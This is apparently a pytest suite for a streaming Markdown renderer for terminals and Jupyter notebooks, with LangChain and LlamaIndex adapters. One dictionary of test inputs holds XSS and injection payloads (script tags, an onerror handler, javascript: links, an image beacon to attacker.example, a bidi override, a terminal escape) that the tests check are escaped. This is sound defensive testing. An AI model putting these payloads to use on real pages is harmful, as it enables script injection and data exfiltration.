"""Markdown in terminals and notebooks: incremental, safe, complete, and linear in the length of the response."""

import io
import random
import re
from collections.abc import AsyncIterator, Callable, Iterator
from typing import Any

import pytest
from llama_index.core.llms import ChatMessage
from rich.console import Console

from langchain_mdstream import ChatOCIModelDeployment
from llamaindex_mdstream import OCIDataScience
from mdstream_core.display import ashow, show
from mdstream_core.display._blocks import MarkdownBlocks
from mdstream_core.display._markdown import markdown_to_html
from mdstream_core.display._notebook import NotebookView
from mdstream_core.display._rich import RichView
from mdstream_core.emulator import Emulator, ModelOutput
from mdstream_core.events import Finish, TextDelta

RESPONSE = """\
# Rivers

The **Nile** and the *Amazon*,
on two lines.

1. Nile

   ```python
   length = 6_650

   print(length)
   ```

2. Amazon

| river | km |
|---|---|
| Nile | 6650 |

~~~
a = 1

b = 2
~~~
Done, with <b>HTML</b> and `code`.
"""


def chunked(text: str, size: int = 7) -> list[Any]:
    return [TextDelta(text[at : at + size]) for at in range(0, len(text), size)] + [Finish("stop")]


def in_terminal(events: Any, *, height: int = 24, **options: Any) -> str:
    """Return what a terminal displays at the end, from what was written between the erased status lines."""
    file = io.StringIO()
    console = Console(file=file, force_terminal=True, width=60, height=height, highlight=False)
    show(events, view=RichView(console, **options))
    return screen(file.getvalue())


def screen(written: str) -> str:
    lines, row = [""], 0
    for part in re.findall(r"\x1b\[[\d;?]*[A-Za-z]|\n|\r|[^\x1b\n\r]+", written):
        if part == "\n":
            row += 1
            lines += [""] * (row + 1 - len(lines))
        elif part == "\x1b[1A":
            row -= 1
        elif part == "\x1b[2K":
            lines[row] = ""
        elif not part.startswith(("\x1b", "\r")):
            lines[row] += part
    return "\n".join(line.rstrip() for line in lines)


@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_blocks_do_not_depend_on_the_chunks(size: int) -> None:
    """Nothing is lost, lists and fenced code stay whole, and the list ends where its last item ends."""
    blocks = MarkdownBlocks()
    found = [block for event in chunked(RESPONSE, size)[:-1] for block in blocks.feed(event.text)]
    found.append(blocks.flush())

    assert ["# Rivers", "The **N", "1. Nile", "| river", "~~~\na =", "Done, w"] == [
        block[:8].strip() if block[0] == "#" else block[:7] for block in found
    ]
    assert RESPONSE.split() == "\n".join(found).split()
    assert found[2].endswith("2. Amazon")


@pytest.mark.parametrize("size", [1, 10_000])
def test_a_terminal_renders_markdown(size: int) -> None:
    """Marks become styles; line breaks, HTML and code are kept."""
    shown = in_terminal(chunked(RESPONSE, size))

    assert "The Nile and the Amazon,\non two lines.\n" in shown
    assert "length = 6_650\n\n" in shown
    assert "Done, with <b>HTML</b> and code." in shown
    assert not re.search(r"\*\*|```|~~~|\|---", shown)


def test_a_terminal_shows_the_source_on_request() -> None:
    """`markdown=False` writes the text as it was received."""
    assert RESPONSE in in_terminal(chunked(RESPONSE), markdown=False)


def test_a_response_longer_than_the_screen_is_complete() -> None:
    """A list and fenced code that are higher than the terminal are displayed whole, once."""
    items = "".join(f"- item{number}\n" for number in range(100))
    code = "".join(f"line{number}\n" for number in range(100))
    shown = in_terminal(chunked(f"{items}\n```\n{code}```\n", 50), height=10)

    assert [str(number) for number in range(100)] == re.findall(r"item(\d+)", shown)
    assert [str(number) for number in range(100)] == re.findall(r"line(\d+)", shown)


#: What a response must not be able to do, and what is displayed instead.
HOSTILE = {
    "script": ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    "handler": ('<img src=x onerror="alert(1)">', "&lt;img src=x onerror="),
    "javascript link": ("[go](javascript:alert(1))", "[go](javascript:alert(1))"),
    "link that opens a program": ("[go](vscode:x) <vscode:x>", "[go](vscode:x) &lt;vscode:x&gt;"),
    "link to the notebook server": ("[go](/api/x)", "[go](/api/x)"),
    "image that is loaded": ("![x](https://attacker.example/?data=1)", '!<a href="https://attacker.example/?data=1"'),
    "attribute of a fence": ('```"><script>\nx\n```', "&lt;script&gt;"),
    "style": ("<style>*{display:none}</style>", "&lt;style&gt;"),
    "bidirectional override": ("user\u202etxt.exe &#8238;x", "usertxt.exe x"),
    "entity of a control character": ("a&#27;[2J", "a\ufffd[2J"),
}


@pytest.mark.parametrize(("text", "expected"), HOSTILE.values(), ids=HOSTILE)
def test_a_response_cannot_inject(text: str, expected: str) -> None:
    """HTML is escaped, images are not loaded, and control characters are replaced: in notebooks and in terminals."""
    html = markdown_to_html(text)

    assert expected in html
    assert not re.search(r"<(?!/?(p|a|pre|code|br)\b)|href=\"javascript", html)
    assert not re.search("[\x1b\u202e]", html)
    assert not re.search("[\x1b\u202e]", in_terminal(chunked(text)))


def notebook_pages(events: Any, **options: Any) -> list[dict[str, str]]:
    """Return the MIME bundles of each update."""
    from IPython.core.interactiveshell import InteractiveShell  # noqa: PLC0415
    from IPython.utils.capture import capture_output  # noqa: PLC0415

    InteractiveShell.instance()
    with capture_output() as captured:
        show(events, view=NotebookView(**options))
    return [output.data for output in captured.outputs]


def test_a_notebook_renders_markdown() -> None:
    """As HTML, beside the source as plain text; without Markdown the HTML has the source, too."""
    page = notebook_pages(chunked(RESPONSE))[-1]

    assert "<h1>Rivers</h1>" in page["text/html"]
    assert "<strong>Nile</strong>" in page["text/html"]
    assert "<td>6650</td>" in page["text/html"]
    assert "&lt;b&gt;HTML&lt;/b&gt;" in page["text/html"]
    assert RESPONSE in page["text/plain"]
    assert "**Nile**" in notebook_pages(chunked(RESPONSE), markdown=False)[-1]["text/html"]


def test_the_cost_in_a_notebook_is_linear(monkeypatch: pytest.MonkeyPatch) -> None:
    """Ten times the text sends about ten times the HTML, even if every chunk may update the output."""
    clock = iter(range(10**9))
    monkeypatch.setattr("mdstream_core.display._notebook.monotonic", lambda: next(clock))
    sizes = [sum(len(page["text/html"]) for page in notebook_pages(chunked("word " * n, 5)) if "text/html" in page) for n in (2_000, 20_000)]  # fmt: skip

    assert sizes[1] / sizes[0] < 20


def test_the_cost_of_splitting_is_linear() -> None:
    """Each line is looked at once: the lines of one long block are not joined again for each of them."""

    class Counting(MarkdownBlocks):
        added = 0

        def _add_line(self, line: str) -> str:
            self.added += 1
            return super()._add_line(line)

    blocks = Counting()
    for _ in range(10_000):
        assert [] == blocks.feed("- item\n")

    assert 10_000 == blocks.added
    assert len(blocks.tail(20, 1_000)) < 200
    assert 10_000 == len(blocks.flush().splitlines())


def test_fuzzed_text_is_never_lost() -> None:
    """Whatever the text and the chunks, a terminal displays every word."""
    generator = random.Random(7)
    parts = ["word ", "\n", "\n\n", "- ", "1. ", "```", "~~~\n", "# ", "> ", "    ", "| a |", "<b>", "&lt;", "`", "**"]
    for _ in range(60):
        text = "".join(f"{generator.choice(parts)}w{number} " for number in range(generator.randint(1, 25)))
        shown = in_terminal(chunked(text, generator.randint(1, 9)))
        info = {word for line in re.findall(r"(?:```|~~~)[^\n]*", text) for word in re.findall(r"w\d+", line)}

        assert set(re.findall(r"w\d+", text)) - info <= set(re.findall(r"w\d+", shown)), text


STREAMS: dict[str, tuple[Callable[[str], Any], Callable[[str], Any]]] = {
    "LangChain": (
        lambda endpoint: ChatOCIModelDeployment(endpoint=endpoint, auth_type="none").stream("Rivers?"),
        lambda endpoint: ChatOCIModelDeployment(endpoint=endpoint, auth_type="none").astream("Rivers?"),
    ),
    "LlamaIndex": (
        lambda endpoint: OCIDataScience(endpoint=endpoint, auth_type="none").stream_chat([ChatMessage("Rivers?")]),
        lambda endpoint: OCIDataScience(endpoint=endpoint, auth_type="none").astream_chat([ChatMessage("Rivers?")]),
    ),
}


@pytest.fixture(scope="module")
def endpoint() -> Iterator[str]:
    """The endpoint of a model that responds with Markdown."""
    pieces = tuple(event.text for event in chunked(RESPONSE)[:-1])
    with Emulator(delay=0, model=lambda request: ModelOutput(text=pieces)) as emulator:
        yield emulator.endpoint


@pytest.mark.parametrize(("stream", "astream"), STREAMS.values(), ids=STREAMS)
async def test_both_frameworks_render_markdown(
    stream: Callable[[str], Any], astream: Callable[[str], AsyncIterator[Any]], endpoint: str
) -> None:
    """Sync and async."""
    file = io.StringIO()
    console = Console(file=file, force_terminal=True, width=60, highlight=False)
    await ashow(astream(endpoint), view=RichView(console))

    for shown in (in_terminal(stream(endpoint)), screen(file.getvalue())):
        assert "The Nile and the Amazon,\non two lines.\n" in shown
